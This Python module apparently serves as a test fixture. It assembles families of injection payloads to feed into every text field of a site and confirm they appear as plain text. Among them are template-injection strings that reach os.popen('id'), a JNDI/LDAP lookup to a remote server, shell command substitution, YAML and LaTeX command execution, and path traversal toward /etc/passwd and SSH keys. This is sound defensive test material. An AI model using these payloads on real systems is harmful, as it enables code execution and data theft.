"""Texts that want to be executed, in small families: each goes into every text field of the hostile ledger."""

from dataclasses import dataclass
from itertools import product

from hostile_markup import EVENTS, HOLDERS, HTML, LINKS, SCRIPTS, SERVER, STYLES, SVG

CALL = "globalThis.planted=1"
"""What every payload tries to run; a browser then finds the mark."""


@dataclass(frozen=True)
class Payload:
    """One text, and what it tries."""

    family: str
    text: str

    @property
    def in_code(self) -> str:
        """The text in a code span, where an editor puts it to be read as it is."""
        ticks = "`" * (self.text.count("`") + 1)
        return f"{ticks} {self.text} {ticks}"


_TEMPLATES = (
    "{{{{ {} }}}}",
    "{{{{ 7*7 }}}}",
    "{{{{ config }}}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}",
    "{{% raw %}}",
    "{{% endraw %}}{{{{ 7*7 }}}}",
    "{{% include 'main.html' %}}",
    "{{% for x in range(9) %}}x{{% endfor %}}",
    "{{# comment #}}",
    "{{#c9 onclick={} .x}}",
    "{{: #c8 onmouseover={} }}",
    "{{:target=_blank onclick={}}}",
    "${{{}}}",
    "${{jndi:ldap:" + SERVER + "/x}}",
    "#{{{}}}",
    "<%= {} %>",
    "{{0.__class__}} {{path}} {{line}}",
    "{{!r}} {{:>99999}}",
    "%s %n %(x)s %99999d",
    "$(id) `id` ;id |id &&id",
    "__import__('os').system('id')",
    "!!python/object/apply:os.system [id]",
    "!ENV [HOME]",
    "--8<-- '/etc/passwd'",
    "::: k3core.browser",
    "[TOC]",
    "[[Q1]]",
    "*[Q1]: <script>{}</script>",
    "[^1]: <script>{}</script>",
    '=== "tab"',
    '!!! note "x"',
    "??? note",
)
_MARKERS = (
    "\\:value[area]",
    ":value[../../etc/passwd]",
    ":claim[Q1.c1]<script>{}</script>",
    ":question[<script>{}</script>]",
    ":cite[javascript:{}]",
    "::component[../../../x]",
    "::question[Q1]",
    ":value[[area]]",
    ":value[area",
    ":nothing[x]",
    "::::::value[area]",
    ":value[area]{{onclick={}}}",
    "$\\href{{javascript:{}}}{{x}}$",
    "$\\text{{<script>{}</script>}}$",
    "$\\htmlClass{{x}}{{y}}$",
    "$\\url{{" + SERVER + "}}$",
    "$\\includegraphics{{" + SERVER + "/x.png}}$",
    "$\\def\\x{{\\x\\x}}\\x$",
    "$\\frac{{1$",
    "$$<script>{}</script>$$",
    "$\\unicode{{x3c}}$",
    "$<$ and $>$ and $&$",
    "$\\color{{red;background:url(" + SERVER + ")}}x$",
)
_BIBTEX = (
    "\\href{{javascript:{}}}{{x}}",
    "\\url{{javascript:{}}}",
    "\\input{{/etc/passwd}}",
    "\\include{{../../x}}",
    "\\write18{{id}}",
    "\\immediate\\write18{{id}}",
    "\\csname x\\endcsname",
    "\\def\\x{{\\x\\x}}\\x",
    "\\catcode`\\<=13",
    "\\verb|<script>{}</script>|",
    "\\textbf{{<script>{}</script>}}",
    '{{\\"u}}<script>{}</script>',
    "\\&lt;script\\&gt;",
    "\\special{{html:<script>{}</script>}}",
    "\\begin{{html}}<script>{}</script>\\end{{html}}",
    '@string{{x = "<script>{}</script>"}}',
    "@comment{{<script>{}</script>}}",
    '@preamble{{"<script>{}</script>"}}',
)
_PATHS = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "//planted.example/etc",
    "file:///etc/passwd",
    "C:\\x\\y",
    "%2e%2e%2f%2e%2e%2f",
    "..%c0%af..%c0%af",
    "....//....//",
    "questions/../../x",
    "x/./../../y/index.html",
    "~/.ssh/id_rsa",
    "CON.html",
    "index.html?x=<script>{}</script>#<script>{}</script>",
    'a\\b/c:d*e?f"g<h>i|j',
    ".git/config",
    "-rf --help",
)
_UNICODE = (
    "İstanbul ﬁ ß ſcript",
    "𝓼𝓬𝓻𝓲𝓹𝓽 𝐣𝐚𝐯𝐚𝐬𝐜𝐫𝐢𝐩𝐭:{}",
    "ｊａｖａｓｃｒｉｐｔ：{}",
    "ʲavascript:{}",
    "Ｚ̴̡̛a̵̢l̷g̸o̶" + "\u0301" * 40,
    "é vs e\u0301",
    "שלום עולם",
    "مرحبا بالعالم",
    "👩‍👩‍👧‍👦🏳️‍🌈🇨🇭",
    "𠜎𠜱𡿺 㐀䶵",
    "line\u2028separator\u2029{}",
    "no\u00a0break\u202fspace\u3000here",
    "soft\u00adhyphen",
    "\ufffd\ufffc",
    "ＳＣＲＩＰＴ　ＡＬＥＲＴ",
    "«quoted» „low“ ‚one‘",
    "ˆ˜¨´`^~",
    "\u2800\u3164\uffa0 blank letters",
    "a\ufe0fb\u20e3",
)
_LONG = (
    "W" * 4_000,
    "<" * 2_000,
    "&" * 2_000 + "amp;",
    "[" * 1_500,
    "(" * 1_500 + ")" * 1_500,
    "[a](" * 700,
    "*a " * 1_000,
    "_" * 2_000,
    "> " * 800 + "x",
    "- " * 800 + "x",
    "<b>" * 1_000 + "x" + "</b>" * 1_000,
    "<svg>" * 500,
    "&#x41;" * 700,
    "{{{{" * 700,
    "中" * 3_000,
    "a " * 3_000,
)
_FAMILIES = {
    "script": SCRIPTS,
    "event handler": tuple(holder.format(f"{event}={{}}") for event, holder in product(EVENTS, HOLDERS)),
    "SVG and MathML": SVG,
    "link": LINKS,
    "HTML": HTML,
    "style": STYLES,
    "template": _TEMPLATES,
    "marker and formula": _MARKERS,
    "BibTeX command": _BIBTEX,
    "path": _PATHS,
    "Unicode": _UNICODE,
    "long or deep": _LONG,
}
PAYLOADS = tuple(
    Payload(family, text.format(*[CALL] * text.count("{}"))) for family, texts in _FAMILIES.items() for text in texts
)
"""Texts that a field may hold; the site shows them as words."""
UNSEEN = tuple(
    f"mark{chr(code)}ed"
    for code in (
        *range(9),
        11,
        12,
        *range(14, 32),
        *range(127, 133),
        *range(134, 160),
        0xE000,
        0xF8FF,
        0xFEFF,
        0x061C,
        0x200B,
        0x200E,
        0x200F,
        *range(0x202A, 0x202F),
        0x2060,
        *range(0x2066, 0x206A),
    )
)
"""Texts with characters that no reader sees or that turn a line around; a reader of files refuses them."""
